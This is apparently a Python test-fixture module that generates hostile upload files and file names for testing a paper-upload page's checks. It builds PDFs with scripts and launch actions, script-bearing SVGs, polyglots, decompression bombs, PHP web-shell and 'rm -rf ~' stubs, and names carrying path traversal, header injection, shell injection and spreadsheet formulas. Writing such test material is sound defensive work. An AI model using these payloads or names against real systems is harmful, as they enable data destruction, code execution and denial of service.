"""Files made to harm whoever opens them, for the page that takes papers: any number of them, no two alike.

`hostile_files(n)` gives n of them: family, the name they are sent under, content. Each family is a function of a number
that ends up in the content.
"""

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache, partial
from io import BytesIO
from itertools import count, cycle, islice
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image

from tests.casework.test_upload_checks import (
    with_attachment,
    with_launching,
    with_script,
    with_script_on_a_page,
    with_xfa,
)

Name = pikepdf.Name
Make = Callable[[int], bytes]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" {}>{}<desc>{}</desc></svg>'
NAMES = (
    *(
        "收据",
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\x",
        "/etc/cron.d/x",
        "C:\\x",
        "\\\\server\\share\\x",
    ),
    *(
        "a\r\nSet-Cookie: x=1",
        "\u202egpj.exe",
        "x" * 300,
        '"><script>alert(1)</script>',
        "con",
        "a;rm -rf ~",
        "%2e%2e%2fx",
    ),
    *("a.php", "a.pdf.exe.", "=cmd|' /C calc'!A0", "$(id)", "a\x00b", "~/.ssh/id_rsa"),
)


def picture(kind: str, number: int, side: int = 90) -> bytes:
    """An honest picture with the number in its pixels."""
    out = BytesIO()
    image = Image.effect_noise((side, side), 60).convert("RGB")
    image.putpixel((0, 0), (number % 256, number // 256 % 256, number // 65536))
    image.save(out, kind)
    return out.getvalue()


def paper(number: int, change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF of one page that bears the number."""
    out = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.docinfo["/Title"] = f"{number}"
        if change:
            change(document)
        document.save(out, **saving)
    return out.getvalue()


def acts_by(action: str) -> Callable[[pikepdf.Pdf], None]:
    """Opening the document does this."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=Name(f"/{action}"), F="https://192.0.2.1/x")

    return change


def with_named_script(document: pikepdf.Pdf) -> None:
    """A script in the tree of names."""
    script = pikepdf.Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["x", document.make_indirect(script)]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=document.make_indirect(tree))


def with_rich_media(document: pikepdf.Pdf) -> None:
    """A film on a page."""
    note = pikepdf.Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(note)])


def with_a_script_far_inside(document: pikepdf.Pdf) -> None:
    """A chain of direct actions, each inside the one before, and the script at its end."""
    action = pikepdf.Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    for _link in range(60):
        action = pikepdf.Dictionary(S=Name.GoTo, Next=action)
    document.Root.OpenAction = action


def archive_that_ends_like_a_paper(number: int) -> bytes:
    """A PDF, and behind it an archive whose remark is the end of a PDF."""
    page, out = paper(number), BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr("a.exe", b"MZ")
        archive.comment = page[page.rindex(b"startxref") :]
    return page + out.getvalue()


def locked(number: int) -> bytes:
    return paper(number, encryption=pikepdf.Encryption(user=f"u{number}", owner="o"))


def packed(number: int, **parts: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
        archive.writestr("docProps/app.xml", f"<n>{number}</n>")
    return out.getvalue()


@cache
def zeros(megabytes: int) -> bytes:
    """Many zeros, packed."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + body


def png_flood(number: int) -> bytes:
    """A few bytes that claim to be more pixels than any camera makes."""
    head = struct.pack(">IIBBBBB", 20_000 + number, 30_000, 8, 2, 0, 0, 0)
    return png_of((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))


def png_words_bomb(number: int) -> bytes:
    """Words beside the picture that unpack to 64 megabytes."""
    head = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    words = f"Comment{number}".encode() + b"\0\0" + zeros(64)
    return png_of((b"IHDR", head), (b"zTXt", words), (b"IDAT", zlib.compress(bytes(200))), (b"IEND", b""))


def jpg_flood(number: int) -> bytes:
    """A small JPG that claims 60,000 by 60,000 and some."""
    content = bytearray(picture("JPEG", number))
    start = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, start + 5, 60_000, 60_000 + number % 5_000)
    return bytes(content)


def pdf_bomb(number: int) -> bytes:
    """A table of objects that unpacks to 100 megabytes."""
    table = zeros(100)
    head = b"%%PDF-1.5\n%%%d\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n" % number
    said = b"3 0 obj\n<</Type/XRef/Size 90000000/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(
        table
    )
    return head + said + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def cut(make: Make, number: int) -> bytes:
    content = make(number)
    return content[: 40 + (number * 7) % (len(content) * 6 // 10)]


def svg(attribute: str, inside: str, number: int) -> bytes:
    return SVG.format(attribute, inside, number).encode()


def after(mark: bytes, number: int) -> bytes:
    """Something that begins like this."""
    return mark + b"%d" % number + bytes(200)


COMPRESSED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
MACROS = {"xl__vbaProject.bin": OLE, "[Content_Types].xml": b"<Types/>"}
DTD = b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
# Where an ending stands, the file goes by that name; otherwise by any.
FAMILIES: dict[str, tuple[str, Make]] = {
    "script in an SVG": (".svg", partial(svg, 'onload="alert(1)"', "")),
    "script in an SVG called PNG": (".png", partial(svg, "", "<script>alert(1)</script>")),
    "SVG that takes from elsewhere": (".jpg", partial(svg, "", '<image href="http://192.0.2.1/x"/>')),
    "SVG with entities": (".svg", lambda number: DTD + svg("", "&b;", number)),
    "page": (".pdf", partial(after, b"<!doctype html><script>alert(1)</script>")),
    "program": ("", partial(after, b"MZ\x90\x00")),
    "program of Linux": (".jpg", partial(after, b"\x7fELF")),
    "shell": (".png", partial(after, b"#!/bin/sh\nrm -rf ~\n")),
    "PHP": (".jpg", partial(after, b"<?php system($_GET['x']); ?>")),
    "PHP behind the mark of GIF": (".jpg", partial(after, b"GIF89a<?php system($_GET['x']); ?>")),
    "PostScript": (".pdf", partial(after, b"%!PS\n(/etc/passwd) (r) file\n")),
    "picture that is a command": (
        ".png",
        partial(after, b"push graphic-context\nimage over 0,0 0,0 'url(http://192.0.2.1)'"),
    ),
    "old document with macros": (".doc", lambda number: after(OLE, number)),
    "old document called PDF": (".pdf", lambda number: after(OLE, number)),
    "workbook with macros": (".xlsm", lambda number: packed(number, **MACROS)),
    "workbook with macros called PDF": (".pdf", lambda number: packed(number, **MACROS)),
    "archive with a bomb": (".pdf", lambda number: packed(number, **{"a.bin": zeros(64)})),
    "script when opened": (".pdf", partial(paper, change=with_script)),
    "script when opened, compressed": (".pdf", partial(paper, change=with_script, **COMPRESSED)),
    "script on a page": (".pdf", partial(paper, change=with_script_on_a_page, **COMPRESSED)),
    "script by name": (".pdf", partial(paper, change=with_named_script, **COMPRESSED)),
    "script far inside": (".pdf", partial(paper, change=with_a_script_far_inside, **COMPRESSED)),
    "launches a program": (".pdf", partial(paper, change=with_launching, **COMPRESSED)),
    "form of XFA": (".pdf", partial(paper, change=with_xfa)),
    "attachment": (".pdf", partial(paper, change=with_attachment, **COMPRESSED)),
    "film": (".pdf", partial(paper, change=with_rich_media, **COMPRESSED)),
    **{
        f"action {action}": (".pdf", partial(paper, change=acts_by(action), **COMPRESSED))
        for action in ("SubmitForm", "ImportData", "GoToE", "GoToR", "Rendition", "Movie")
    },
    "locked": (".pdf", locked),
    "PDF and archive": (".pdf", lambda number: paper(number) + packed(number, **MACROS)),
    "PDF and archive that ends like one": (".pdf", archive_that_ends_like_a_paper),
    "archive and PDF": (".pdf", lambda number: packed(number, **MACROS) + paper(number)),
    "PDF and page": (".pdf", lambda number: paper(number) + b"<script>alert(1)</script>"),
    "page and PDF": (".pdf", lambda number: b"<script>alert(1)</script>" + paper(number)),
    "PDF called JPG": (".jpg", paper),
    "JPG called PDF": (".pdf", partial(picture, "JPEG")),
    "PNG called JPG": (".jpg", partial(picture, "PNG")),
    "JPG called a program": (".jpg.exe", partial(picture, "JPEG")),
    "PNG called a page": (".html", partial(picture, "PNG")),
    "half a PDF": (".pdf", partial(cut, paper)),
    "half a JPG": (".jpg", partial(cut, partial(picture, "JPEG"))),
    "half a PNG": (".png", partial(cut, partial(picture, "PNG"))),
    "flood of pixels in a PNG": (".png", png_flood),
    "flood of pixels in a JPG": (".jpg", jpg_flood),
    "bomb of words in a PNG": (".png", png_words_bomb),
    "bomb in a PDF": (".pdf", pdf_bomb),
}


def hostile_files(many: int) -> Iterator[tuple[str, str, bytes]]:
    """So many of them: family, name, content; the families in turn, each under every name."""
    numbers, names = count(), cycle(NAMES)
    turns = cycle(FAMILIES.items())
    for family, (ending, make) in islice(turns, many):
        yield family, next(names) + ending, make(next(numbers))


def as_form(name: str, content: bytes, field: str = "files", boundary: str = "kRmS7q") -> tuple[bytes, str]:
    """Body and content type of a form with this file, its name sent as it is: a browser would take the folders away."""
    said = name.replace('"', "%22").encode()
    head = b'--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n' % (
        boundary.encode(),
        field.encode(),
        said,
    )
    body = head + b"Content-Type: application/pdf\r\n\r\n" + content + b"\r\n--%s--\r\n" % boundary.encode()
    return body, f"multipart/form-data; boundary={boundary}"
